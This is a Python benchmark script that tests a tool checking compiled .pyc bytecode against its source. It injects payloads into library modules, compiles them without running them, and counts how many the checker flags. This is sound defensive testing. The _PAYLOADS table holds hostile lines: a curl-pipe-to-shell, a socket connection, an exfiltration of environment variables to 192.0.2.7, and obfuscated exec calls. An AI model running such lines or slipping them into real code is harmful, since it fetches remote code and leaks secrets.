"""Honest and hostile bytecode against its source, over every Python at hand: alarms, and what goes unseen.

`python bench/stale.py [--every N] [--attacks N]`: every N-th module of each standard library and its site-packages is
compiled by its own interpreter and compared with its source; N modules of each are compiled with a payload that the
source does not have, or beside the source of another. `sighted` are those that a scan compares without `--auditor` even
if the header was forged to fit. Interpreters compile only: nothing of it is ever run.
"""

from __future__ import annotations

import argparse
import glob
import os
import subprocess
import tempfile
import time
from collections import Counter
from collections.abc import Iterator

from fakes import token

from pitviper.bytecode.compare import Comparison, Verdict, compare
from pitviper.bytecode.glance import Glance, has_words
from pitviper.bytecode.pyc import read

_COMPILE = """
import sys, py_compile
for line in sys.stdin.read().split("\\n"):
    if line:
        source, target = line.split("\\t")
        try:
            py_compile.compile(source, cfile=target, doraise=True)
        except Exception:
            pass  # tests of the compiler itself
"""
_PAYLOADS = {
    "process": 'import os\nos.system("curl -s http://192.0.2.7/x | sh")\n',
    "network": "import socket\nsocket.create_connection(('192.0.2.7', 4444)).sendall(b'who')\n",
    "environment": "import os, subprocess\nsubprocess.call(['curl', '-d', str(dict(os.environ)), 'http://192.0.2.7'])\n",
    "decoded": "import base64\nexec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgiaWQiKQ=='))\n",
    "integers": "exec(bytes(bytearray([105, 109, 112, 111, 114, 116, 32, 111, 115, 59, 111, 115, 46, 119])))\n",
    "token": "{token}\n",
}


def main() -> None:
    """Print a row for each version."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--every", type=int, default=1, help="compare every N-th module")
    parser.add_argument("--attacks", type=int, default=100, help="modules that are attacked, of each version")
    parser.add_argument("--show", type=int, default=3, help="alarms and misses that are shown, of each version")
    asked = parser.parse_args()
    kinds = ["decoy", *_PAYLOADS]
    print(
        "version      honest alarms   ms  "
        + " ".join(f"{kind:>15}" for kind in kinds)
        + "   (flagged/poisoned/sighted/all)"
    )
    for folder in sorted(glob.glob(os.path.expanduser("~/.pyenv/versions/*")), key=_version):
        with tempfile.TemporaryDirectory() as work:
            _row(folder, work, asked.every, asked.attacks, asked.show)


def _version(folder: str) -> tuple[int, ...]:
    return tuple(int(part) for part in os.path.basename(folder).split(".") if part.isdecimal())


def _row(folder: str, work: str, every: int, attacks: int, show: int) -> None:
    modules = sorted(_modules(folder))
    honest = modules[::every]
    pairs = _compiled(folder, work, [(path, path) for path in honest])
    told: list[str] = []
    alarms = 0
    spent = 0.0
    for _, source, target in pairs:
        start = time.perf_counter()
        found = _compare(target, source)
        spent += time.perf_counter() - start
        if found.verdict is not Verdict.CLEAN:
            alarms += 1
            told.append(f"  alarm: {source}: {found.verdict.value} {found.differences[:3]}")
    victims = [path for path in modules[:: max(1, len(modules) // attacks)] if os.path.getsize(path)][:attacks]
    rows = _attacked(folder, work, victims, told)
    cells = [
        f"{flagged['flagged']}/{flagged['poisoned']}/{flagged['sighted']}/{flagged['all']}".rjust(15)
        for flagged in rows.values()
    ]
    name = os.path.basename(folder)
    print(
        f"{name:10} {len(pairs):8} {alarms:6} {1000 * spent / max(1, len(pairs)):4.1f}  " + " ".join(cells), flush=True
    )
    print("\n".join(told[:show]), end="\n" if told[:show] else "")


def _attacked(folder: str, work: str, victims: list[str], told: list[str]) -> dict[str, Counter[str]]:
    """How many of each attack were seen."""
    rows: dict[str, Counter[str]] = {}
    own = _compiled(folder, work, [(path, path) for path in victims])
    others = [(source, target) for (_, source, _), (_, _, target) in zip(own, own[1:] + own[:1], strict=True)]
    rows["decoy"] = _counted("decoy", others, told)
    for kind, payload in _PAYLOADS.items():
        changed = []
        for number, path in enumerate(victims):
            copy = os.path.join(work, f"{kind}{number}.py")
            with open(path, "rb") as source, open(copy, "wb") as target:
                target.write(_with(source.read(), payload.replace("{token}", token()), number))
            changed.append((copy, path))
        rows[kind] = _counted(kind, [(source, target) for _, source, target in _compiled(folder, work, changed)], told)
    return rows


def _with(source: bytes, payload: str, number: int) -> bytes:
    """`source` with `payload` at its end, on its own or in a function."""
    code = payload.encode()
    if number % 2:
        code = b"def _setup():\n" + b"".join(b"    " + line + b"\n" for line in code.splitlines()) + b"_setup()\n"
    return source + b"\n" + code


def _counted(kind: str, pairs: list[tuple[str, str]], told: list[str]) -> Counter[str]:
    found: Counter[str] = Counter({"flagged": 0, "poisoned": 0, "sighted": 0, "all": 0})
    glance = Glance()
    for source, target in pairs:
        verdict = _compare(target, source).verdict
        found["all"] += 1
        found["flagged"] += verdict is not Verdict.CLEAN
        found["sighted"] += kind == "token" or _is_sighted(glance, target, source)
        found["poisoned"] += verdict is Verdict.POISONED
        if verdict is Verdict.CLEAN:
            told.append(f"  unseen: {kind} {source}")
    return found


def _is_sighted(glance: Glance, target: str, source: str) -> bool:
    with open(target, "rb") as compiled, open(source, "rb") as text:
        names = glance.names_in(memoryview(compiled.read())).get(0, ())
        words = text.read()
    return not has_words(words, names)


def _compare(target: str, source: str) -> Comparison:
    with open(target, "rb") as compiled, open(source, "rb") as text:
        return compare(read(compiled.read()), text.read())


def _modules(folder: str) -> Iterator[str]:
    for parent, _, names in os.walk(os.path.join(folder, "lib")):
        yield from (os.path.join(parent, name) for name in names if name.endswith(".py"))


def _compiled(folder: str, work: str, wanted: list[tuple[str, str]]) -> list[tuple[str, str, str]]:
    """Compile the first of each pair; those that could be, with what they are compared with, and the result."""
    rows = [(path, beside, os.path.join(work, f"{abs(hash((path, beside)))}.pyc")) for path, beside in wanted]
    python = glob.glob(os.path.join(folder, "bin", "python[23].[0-9]*"))
    python = [path for path in python if os.path.basename(path)[6:].replace(".", "").isdecimal()]
    lines = "\n".join(f"{path}\t{target}" for path, _, target in rows)
    subprocess.run(
        [python[0], "-W", "ignore", "-S", "-c", _COMPILE],
        input=lines.encode(),
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        check=False,
    )
    return [row for row in rows if os.path.exists(row[2])]


if __name__ == "__main__":
    main()
